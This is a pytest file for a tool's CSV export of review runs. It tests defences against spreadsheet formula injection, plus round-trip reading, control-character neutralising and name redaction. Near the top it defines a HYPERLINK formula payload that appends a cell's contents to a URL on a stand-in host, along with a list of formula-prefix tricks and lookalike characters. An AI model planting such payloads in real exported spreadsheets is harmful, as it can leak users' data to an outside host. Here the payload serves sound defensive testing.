"""A run as a table: nothing in it is a formula for anyone, it is read back as it was, and no finding is missing from it."""

from __future__ import annotations

import csv as table
import io
import unicodedata

import pandas
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from winks.agents.convener import Abstention
from winks.agents.critique import Critique, Failure, FollowUp, PartAbstention
from winks.trail.document import CaseRecord, RunDocument
from winks.trail.exports import export
from winks.trail.exports.csv import COLUMNS, MOST, rows_of, safe, written
from winks.trail.tombstones import Erasure

from ..graphs.bench import FERRY, PROMPT, Bench
from .documents import DRAFT, critique, declined, document, finding, rewritten, taken

FORMULAS = ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\n=1", "  =1", '"=1', "“=1", "＝1", "﹣1", "\u200b=1", "−1")
EVIL = '=HYPERLINK("https://example.invalid/?"&A1;"x")'

hostile = st.text(st.sampled_from("=+-@＝＋－＠;,\t\r\n\"'“ a1\u00a0\u200b\u2212"), max_size=40) | st.text(max_size=40)


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet may run a cell; one that an apostrophe stands before is text."""
    bare = cell.lstrip("\ufeff")
    if bare.startswith("'"):
        return False
    inner = next(
        (c for c in bare if not (c.isspace() or c in '"“”‘’«»' or unicodedata.category(c) in ("Cc", "Cf"))), ""
    )
    return inner != "" and unicodedata.normalize("NFKC", inner)[0] in "=+-@\u2212"


def cells(made: bytes, delimiter: str) -> list[str]:
    """The cells of a file as a reader with this separator finds them."""
    text = made.decode("utf-8-sig")
    return [cell for row in table.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


def read(made: bytes) -> list[dict[str, str]]:
    """The rows of a file, as Python's own reader has them."""
    return list(table.DictReader(io.StringIO(made.decode("utf-8-sig"), newline="")))


def evil_run() -> RunDocument:
    """A run whose every text tries to be a formula."""
    one = finding(
        "f.1", "agreed", thin_reading=EVIL, readings=(EVIL, "\n" + EVIL), question=EVIL + "?", suggestion="a;" + EVIL
    )
    two = finding("f.2", status="withheld", withheld_because="@here", quoted_as="\t" + EVIL)
    aside = PartAbstention(about=EVIL, reason="too_little", say="+1")
    return document(
        case=CaseRecord(prompt=f"first line\n{EVIL}; {EVIL}\t{EVIL}"),
        critiques=(critique(one, two, abstentions=(aside,)),),
        revision=rewritten("New.", taken("f.1").model_copy(update={"reason": EVIL, "check": "-1"})),
    )


# formulas


@pytest.mark.parametrize("text", FORMULAS)
def test_what_begins_like_a_formula_begins_with_an_apostrophe_instead(text: str):
    assert safe(text).startswith("'")
    assert not is_formula(safe(text))


@pytest.mark.parametrize(
    "text", ["", "a", "Is it?", "a = b", "1-2", "it's -3 degrees", "'con bận thì thôi'", "a\nb", "e-mail@x", "a; b"]
)
def test_what_does_not_is_left_as_it_is(text: str):
    assert safe(text) == text


@given(hostile)
@example('a;"=b')
@example("a\n\n=b")
def test_no_cell_begins_like_a_formula_whatever_separates_cells(text: str):
    assert not safe(text).startswith(("\t", "\r", "\n"))
    made = written([{"row": safe(text), "words": safe(text)}])
    for delimiter in (",", ";", "\t"):
        assert not [cell for cell in cells(made, delimiter) if is_formula(cell)], delimiter


@given(hostile)
def test_nothing_but_apostrophes_is_put_in_and_nothing_is_taken_out(text: str):
    assert safe(text).replace("'", "") == text.replace("'", "")


@given(hostile)
def test_a_cell_that_is_safe_is_left_alone(text: str):
    assert safe(safe(text)) == safe(text)


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_a_run_full_of_formulas_has_none_in_its_table(delimiter: str):
    made = written(rows_of(evil_run()))
    found = cells(made, delimiter)
    assert any("HYPERLINK" in cell for cell in found)
    assert not [cell for cell in found if is_formula(cell)]


# reading it back


@given(st.lists(hostile, min_size=1, max_size=4))
def test_the_rows_are_read_back_as_they_were(texts: list[str]):
    rows = [{"row": safe(text), "banner": safe(text)} for text in texts]
    assert read(written(rows)) == [{name: row.get(name, "") for name in COLUMNS} for row in rows]


def test_pandas_reads_the_same_table():
    rows = rows_of(evil_run())
    made = pandas.read_csv(io.BytesIO(written(rows)), dtype=str, keep_default_na=False)
    assert list(made.columns) == list(COLUMNS)
    assert made.to_dict("records") == [{name: row.get(name, "") for name in COLUMNS} for row in rows]


def test_a_file_begins_with_a_byte_order_mark_and_its_rows_end_as_the_standard_says():
    made = written(rows_of(evil_run()))
    assert made.startswith(b'\xef\xbb\xbf"row",')
    assert made.endswith(b'"\r\n')
    assert b"\r" not in made.replace(b"\r\n", b"")


def test_a_text_too_long_for_a_cell_is_cut_and_says_so():
    shown = safe("x" * 40_000)
    assert len(shown) < 32_767
    assert shown.endswith("(cut: 40,000 characters do not fit in a cell)")
    assert safe("x" * MOST) == "x" * MOST
    assert len(safe("\n=" * 16_000)) < 32_767


# what is in it


def test_a_run_without_findings_has_a_row_for_itself_with_the_banner():
    (row,) = rows_of(document())
    assert (row["row"], row["status"], row["words"]) == ("run", "finished", document().case.prompt)
    assert row["banner"] == "Simulated reading."
    assert read(written([row]))[0]["banner"] == "Simulated reading."


def test_every_finding_has_a_row_with_its_place_its_readings_and_what_became_of_it():
    run = document(
        critiques=(
            critique(finding("f.1", "agreed"), finding("f.2")),
            critique(
                reviewer=FERRY,
                round=2,
                outcome="findings",
                follow_ups=(FollowUp(finding="f.1", outcome="settled", reason="Gone."),),
            ),
        ),
        revision=rewritten("Now.", taken("f.1"), declined("f.2")),
    )
    one, two = (row for row in rows_of(run) if row["row"] == "finding")
    assert (one["id"], one["about"], one["words"]) == ("f.1", "draft", "agreed")
    assert DRAFT[int(one["start"]) : int(one["end"])] == "agreed"
    assert one["readings"] == "It may be this.\nIt may be that."
    assert (one["answer"], one["answer_reason"], one["second_round"]) == ("taken", "So it is.", "settled: Gone.")
    assert (two["about"], two["words"], two["cues"], two["answer"]) == ("omission", "", "she's yours", "declined")


def test_who_raised_nothing_who_failed_and_who_stood_aside_are_told_with_the_reason():
    run = document(
        critiques=(
            Critique(reviewer="standpoint", outcome="nothing_to_raise"),
            Critique(reviewer=FERRY, outcome="failed", failure=Failure(kind="timeout", message="It took too long.")),
        ),
        abstentions=(Abstention(dossier="upper@1.0.0", reason="out_of_scope", say="Not its setting."),),
    )
    told = [(row["row"], row["reviewer"], row["status"], row["because"]) for row in rows_of(run)[1:]]
    assert told == [
        ("review", "standpoint", "nothing_to_raise", ""),
        ("review", FERRY, "failed", "timeout: It took too long."),
        ("abstention", "upper@1.0.0", "out_of_scope", "Not its setting."),
    ]


def test_that_words_were_erased_is_said_before_what_is_left():
    said = Erasure(event=9, at="2026-11-24T12:00:00.000000Z", reason="=They asked.", what="event", texts=3)
    run = document(erased=(said,), critiques=(critique(finding("f.1", "agreed")),))
    rows = rows_of(run)
    assert [row["row"] for row in rows] == ["run", "erasure", "finding"]
    assert (rows[1]["id"], rows[1]["status"], rows[1]["because"]) == ("event 9", "event", "'=They asked.")


def test_where_readings_differ_stands_before_the_findings_and_beside_each_of_them():
    bench_run = _differing()
    rows = rows_of(bench_run)
    kinds = [row["row"] for row in rows]
    assert kinds.index("disagreement") < kinds.index("finding")
    differing = next(row for row in rows if row["row"] == "disagreement")
    assert (differing["status"], differing["words"], differing["about"]) == (
        "opposed_readings",
        "agreed to our quote",
        "draft",
    )
    beside = [row["differs"] for row in rows if row["row"] == "finding"]
    assert beside == ["opposed_readings", "opposed_readings"]


def _differing() -> RunDocument:
    from winks.trail.disagreements import find_disagreements

    critiques = (
        critique(finding("a.1", "agreed"), reviewer="a"),
        critique(finding("b.1", "agreed to our quote", readings=("Another.", "And another.")), reviewer="b"),
    )
    return document(critiques=critiques, disagreements=find_disagreements(critiques))


def test_a_control_character_that_a_model_wrote_is_seen_and_does_nothing():
    run = document(critiques=(critique(finding("f.1", "agreed", thin_reading="a\x1b[31mb\x00")),))
    made = written(rows_of(run))
    assert b"\x1b" not in made
    assert b"\x00" not in made
    assert "a␛[31mb␀" in made.decode()


# of a run in the store


def test_a_run_in_the_store_is_the_same_table_each_time_and_names_are_taken_out(bench: Bench):
    run = bench.deliberate().run
    made = []
    for without in ((), (), ("Joko",)):
        store = bench.store()
        made.append(export(store, run, "csv", without))
        store.close()
    assert made[0] == made[1]
    rows = read(made[0])
    assert rows[0]["words"] == PROMPT
    assert {row["id"] for row in rows if row["row"] == "finding"} >= {f"{FERRY}.1"}
    assert b"Joko" in made[0]
    assert b"Joko" not in made[2]
    assert "Pak ████" in made[2].decode()


@pytest.fixture
def bench(tmp_path_factory: pytest.TempPathFactory) -> Bench:
    """A home and a model of its own."""
    return Bench(tmp_path_factory.mktemp("table"))
